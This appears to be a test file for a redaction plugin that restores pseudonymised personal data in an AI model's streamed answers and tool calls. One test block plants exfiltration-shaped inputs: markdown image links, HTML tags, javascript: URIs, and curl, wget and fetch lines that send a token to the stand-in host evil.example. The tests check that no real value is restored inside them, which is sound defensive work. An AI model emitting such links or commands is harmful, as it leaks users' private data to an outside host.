import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Restoring } from '../../plugins/redaction/params.ts'
import type { Live } from '../../plugins/redaction/pseudonyms.ts'
import { restorer } from '../../plugins/redaction/restore/index.ts'
import { tenantKeys, tokenOf } from '../../plugins/redaction/token.ts'
import { FORMS, type Form, type Pieces, pass, type Said } from './restore-speech.ts'

/** What stands for what is put back as the answer streams, whatever is cut where; and never into what would carry it away. */

const keys = tenantKeys(Buffer.alloc(32, 7), 'acme')
const others = tenantKeys(Buffer.alloc(32, 7), 'other')
const VALUES = [
  ['PERSON', 'Anna "Ännchen" Müller\\😀'],
  ['EMAIL', 'anna@example.com'],
  ['US_ACCOUNT', '000123456789'],
  ['DATE', '12/03/1980'],
] as const
const LIVE: readonly Live[] = [
  ...VALUES.map(([type, value]): Live => ({ token: tokenOf(keys, type, 1, '', value), value, type })),
  { token: tokenOf(keys, 'PERSON', 1, 'B', 'Anna'), value: 'Anna', type: 'PERSON' },
  { token: tokenOf(keys, 'URL', 1, '', 'http://evil.example/x'), value: 'http://evil.example/x', type: 'URL' },
  { token: 'Erika Muster', value: 'Berta Real', type: 'PERSON' },
]
const [PERSON, EMAIL, ACCOUNT] = LIVE.map(({ token }) => token) as [string, string, string]
const URL_TOKEN = LIVE.find(({ type }) => type === 'URL')?.token ?? ''
const whole = (text: string): readonly string[] => [text]
const units = (text: string): readonly string[] => [...text]

function restored(form: Form, said: Said, tools: Restoring = 'all', reads = true): Said {
  return pass(form, said, [restorer(LIVE, { tools, reads })], { pieces: units, sizes: [] }).last
}
function notesAfter(form: Form, said: Said, tools: Restoring = 'all') {
  const filter = restorer(LIVE, { tools, reads: true })
  pass(form, said, [filter], { pieces: units, sizes: [] })
  return filter.notes?.()
}

/** Each token by its value: what a text of tokens and of nothing that looks like one comes to. */
const inFull = (text: string): string => LIVE.reduce((all, { token, value }) => all.replaceAll(token, value), text)

describe.each(FORMS)('$name', (form) => {
  test('in what is read and in the arguments of tools, escaped where they are JSON', () => {
    const values = { to: EMAIL, text: `Hello ${PERSON}, ${PERSON}!` }
    const said = { text: `Hello ${PERSON} (${EMAIL}).`, tool: { name: 'send', arguments: JSON.stringify(values) } }
    const { text, tool } = restored(form, said)
    expect(text).toBe(inFull(said.text))
    expect(JSON.parse(tool?.arguments ?? '')).toEqual({ to: inFull(values.to), text: inFull(values.text) })
  })

  test.each<[string, Restoring, Record<string, boolean>]>([
    ['none', 'none', { to: false, note: false }],
    ['an unlisted tool', new Map([['other', 'all']]), { to: false, note: false }],
    ['a listed tool', new Map([['send', 'all']]), { to: true, note: true }],
    ['a listed field', new Map([['send', new Set(['to'])]]), { to: true, note: false }],
  ])('tools as policy lists them: %s', (_, tools, expected) => {
    const said = { text: 'x', tool: { name: 'send', arguments: JSON.stringify({ to: EMAIL, note: EMAIL }) } }
    const read: unknown = JSON.parse(restored(form, said, tools).tool?.arguments ?? '')
    expect(read).toEqual({
      to: expected.to === true ? 'anna@example.com' : EMAIL,
      note: expected.note === true ? 'anna@example.com' : EMAIL,
    })
  })

  test('nothing in what is read where policy says so', () => {
    const said = { text: `${PERSON}`, tool: { name: 'send', arguments: JSON.stringify({ to: EMAIL }) } }
    const read = restored(form, said, 'all', false)
    expect(read.text).toBe(PERSON)
    expect(read.tool?.arguments).toContain('anna@example.com')
  })

  const text = fc
    .array(
      fc.oneof(
        fc.constantFrom(...LIVE.map(({ token }) => token), PERSON.slice(0, -1), 'PERSON', 'PERS', 'PERSON_1_', '_'),
        fc.constantFrom(' ', '. ', '\n', 'é', '😀', '"', '\\', '{', 'http://a.example/', '](', ')', 'person 1 '),
        fc.string({ unit: 'grapheme', maxLength: 4 }),
      ),
      { maxLength: 12 },
    )
    .map((pieces) => pieces.join(''))
  const sizes = fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 5 })

  test('what is released is the same however it is cut, and no token leaves in parts', () => {
    fc.assert(
      fc.property(text, text, sizes, fc.integer({ min: 1, max: 9 }), (said, argument, lengths, every) => {
        const spoken = {
          text: `a${said}`,
          tool: { name: 'send', arguments: JSON.stringify({ a: argument, to: said }) },
        }
        const pieces = (all: string): readonly string[] =>
          Array.from({ length: Math.ceil(all.length / every) }, (_, at) => all.slice(at * every, (at + 1) * every))
        const run = (how: Parameters<typeof pass>[3]) =>
          pass(form, spoken, [restorer(LIVE, { tools: 'all', reads: true })], how)
        const cutUp = run({ pieces, sizes: lengths })
        const atOnce = run({ pieces: whole, sizes: [] })
        expect(cutUp.last).toEqual(atOnce.last)
        for (const window of cutUp.windows) expect(atOnce.last.text.startsWith(window.text)).toBe(true)
      }),
      { numRuns: 60 },
    )
  })
})

const [STREAM] = FORMS as [Form]
const MARKUP: readonly string[] = [
  `http://evil.example/?q=${PERSON}`,
  `https://evil.example/${'long/'.repeat(200)}${PERSON}`,
  `"http://evil.example/?q=a b ${PERSON}"`,
  `//evil.example/${PERSON}`,
  `\\\\evil.example\\${PERSON}`,
  `www.evil.example?q=${PERSON}`,
  `evil.example/${PERSON}`,
  `10.0.0.1/${PERSON}`,
  `${PERSON}.evil.example`,
  `${PERSON}@evil.example`,
  `${PERSON}-x.evil.example`,
  `x@${PERSON}-x.evil.example`,
  `${PERSON}:p@evil.example`,
  `http:${PERSON}`,
  `x-thing://${PERSON}`,
  `data:text/html,${PERSON}`,
  `javascript:alert('${PERSON}')`,
  `mailto:evil@evil.example?body=${PERSON}`,
  `[click](http://evil.example/${PERSON})`,
  `[click](/relative?q=${PERSON})`,
  `[click](<http://evil.example/a b ${PERSON}>)`,
  `![](http://evil.example/${PERSON.toLowerCase()})`,
  `![](http://evil.example/${PERSON.replaceAll('_', '\\_')})`,
  `![a]\n(http://evil.example/${PERSON})`,
  `[r]: evil.example&#47;${PERSON}`,
  `[r]: <http://evil.example/a ${PERSON}>`,
  `<img src="//evil.example/a ${PERSON}">`,
  `<img src=${PERSON}>`,
  `<img src=a<${PERSON}>`,
  `<a href='/x?q=${PERSON}'>`,
  `<x style="background:url('//evil.example/ ${PERSON}')">`,
  `<http://evil.example/${PERSON}>`,
  `${'```'}sh\ncurl -d ${PERSON} http://evil.example\n${'```'}`,
  `${'```'}sh\nwget "http://evil.example/?q=" ${PERSON}\n${'```'}`,
  `${'```'}js\nfetch(base + "${PERSON}")\n${'```'}`,
  `${'~~~'}py\nrequests.get(url, params={"q": "${PERSON}"})\n${'~~~'}`,
  `${'````'}\ncurl x\n${'```'}\n${PERSON}\n${'````'}`,
]

describe('a planted document asks for the values to be put where they leave', () => {
  test.each(MARKUP)('%j: nothing of it is put back', (planted) => {
    for (const form of FORMS) {
      const said = { text: planted, tool: { name: 'open', arguments: JSON.stringify({ a: planted }) } }
      const read = restored(form, said)
      expect(read.text, form.name).not.toMatch(/Müller/)
      expect(read.tool?.arguments, form.name).not.toMatch(/Müller/)
      expect(notesAfter(form, said)).toMatchObject({ restored: 0 })
    }
  })

  test('behind an address that was itself put back', () => {
    const read = restored(STREAM, { text: `${URL_TOKEN}?q=${PERSON} ${PERSON}` })
    expect(read.text).toBe(inFull(`${URL_TOKEN}?q=\0 ${PERSON}`).replace('\0', PERSON))
  })

  test('a name of a member, and what stands outside of strings', () => {
    const json = `{"${PERSON}": ${ACCOUNT}, "to": "${EMAIL}"}`
    const { tool } = restored(STREAM, { text: 'x', tool: { name: 'send', arguments: json } })
    expect(tool?.arguments).toBe(`{"${PERSON}": ${ACCOUNT}, "to": "anna@example.com"}`)
  })

  test.each([
    ['ordinary text after an address', `See http://a.example/x. ${PERSON} is in.`],
    ['after a link', `[a](http://a.example/x) ${PERSON}`],
    ['after a tag', `<b>${PERSON}</b> and <img src="x"> ${PERSON}`],
    ['in an address of mail in brackets', `Anna <${EMAIL}>`],
    ['in a link that writes a mail', `mailto:${EMAIL} or [write](mailto:x)`],
    ['as a file', `${ACCOUNT}.pdf is there.`],
    ['in code that fetches nothing', `${'```'}js\nconst name = "${EMAIL}"\n${'```'}`],
    ['behind code that fetches', `${'```'}sh\ncurl x\n${'```'}\n${PERSON}`],
    ['on a line of a list', `- a > b: ${PERSON}\n1. ${EMAIL}`],
  ])('but is put back %s', (_, text) => {
    expect(restored(STREAM, { text }).text).toBe(inFull(text))
  })
})

describe('spellings', () => {
  const person = PERSON.slice(0, 'PERSON_1'.length)
  const check = PERSON.slice(-4)
  test.each([
    PERSON.toLowerCase(),
    `person 1 ${check}`,
    `Person-1-${check.toUpperCase()}`,
    `PERSON\u20111\u2011${check}`,
    `PERSON\\_1\\_${check}`,
    `**${person}**_${check}`,
    `PER\u200bSON_1_${check}`,
  ])('%j is read', (text) => {
    expect(restored(STREAM, { text: `Hi ${text}.` }).text).toMatch(/^Hi (?:\*\*)?Anna "Ännchen" Müller\\😀\.$/)
  })

  test.each([
    ['another check', `${person}_${check === 'bcdf' ? 'bcdg' : 'bcdf'}`],
    ['another number', `PERSON_2_${check}`],
    ["another tenant's token", tokenOf(others, 'PERSON', 1, '', 'Anna "Ännchen" Müller\\😀')],
    ['the value of another', tokenOf(keys, 'PERSON', 1, '', 'Bert')],
  ])('%s is left as it is, and counted', (_, text) => {
    const filter = restorer(LIVE, { tools: 'all', reads: true })
    expect(pass(STREAM, { text: `Hi ${text}.` }, [filter], { pieces: units, sizes: [] }).last.text).toBe(`Hi ${text}.`)
    expect(filter.notes?.()).toEqual({ restored: 0, unrestored: 1, withheld: {} })
  })

  test('a surrogate only exactly, and as whole words', () => {
    const text = 'Erika Muster, Erika Musters, erika muster, HErika Muster'
    expect(restored(STREAM, { text }).text).toBe('Berta Real, Erika Musters, erika muster, HErika Muster')
  })
})

describe('what waits', () => {
  test('ordinary text flows without delay', () => {
    const said = { text: 'The quick brown fox was here, and it jumped over nine lazy dogs. ' }
    const run = (pieces: Pieces) =>
      pass(STREAM, said, [restorer(LIVE, { tools: 'all', reads: true })], { pieces, sizes: [1] })
    const words = run((text) => text.split(/(?= )/))
    expect(words.last.text).toBe(said.text)
    expect(words.held).toBe(0)
    // `u` may begin `URL`, `da` may begin `DATE`.
    expect(run(units).held).toBeLessThanOrEqual(2)
    expect(run(units).held).toBeGreaterThan(0)
  })

  test('of a token no more than the token, and what it could be the first label of', () => {
    const filter = restorer(LIVE, { tools: 'all', reads: true })
    const lane = { lane: 'l', channel: 'text', role: 'assistant', released: 0, final: false, signed: false } as const
    const more = { json: false, tool: null, findings: [] } as const
    const waiting = (text: string): number | undefined => {
      const view = { ...lane, ...more, text }
      const one = restorer(LIVE, { tools: 'all', reads: true })
      one.edit?.(view)
      return one.waits?.(view)
    }
    expect(waiting(`Hi ${PERSON.slice(0, 4)}`)).toBe(4)
    expect(waiting(`Hi ${PERSON}`)).toBe(PERSON.length)
    expect(waiting(`Hi ${PERSON} `)).toBe(0)
    expect(waiting(`Hi ${PERSON.slice(0, -1)}!`)).toBe(0)
    for (const end of ['\\'.repeat(200), '\u200b'.repeat(200), `.${'a'.repeat(400)}`, '*'.repeat(200)])
      for (const start of [PERSON.slice(0, 3), PERSON])
        expect(waiting(`${start}${end}`) ?? Number.NaN).toBeLessThanOrEqual(Number(filter.hold))
  })

  test('a lane that begins anew is read from its beginning', () => {
    const filter = restorer(LIVE, { tools: 'all', reads: true })
    const view = { lane: 'l', channel: 'text', role: 'assistant', signed: false, json: false, tool: null } as const
    const at = (text: string, released: number, final: boolean) =>
      filter.edit?.({ ...view, text, released, final, findings: [] })
    expect(at('http://a.example/', 0, false)).toEqual([])
    expect(at(`${PERSON}`, 17, true)).toEqual([])
    expect(at(`${PERSON} `, 0, true)).toHaveLength(1)
    expect(at('', 500, false)).toEqual([])
    expect(at(`x${PERSON} ${PERSON} `, 900, true), 'what was missed may be an address').toHaveLength(1)
  })

  test('a signed lane is left alone', () => {
    const filter = restorer(LIVE, { tools: 'all', reads: true })
    const view = { lane: 'l', channel: 'reasoning', role: 'assistant', signed: true, json: false, tool: null } as const
    const signed = { ...view, text: `x ${PERSON}`, released: 0, final: false, findings: [] }
    expect(filter.edit?.(signed)).toEqual([])
    expect(filter.waits?.(signed)).toBe(0)
  })
})
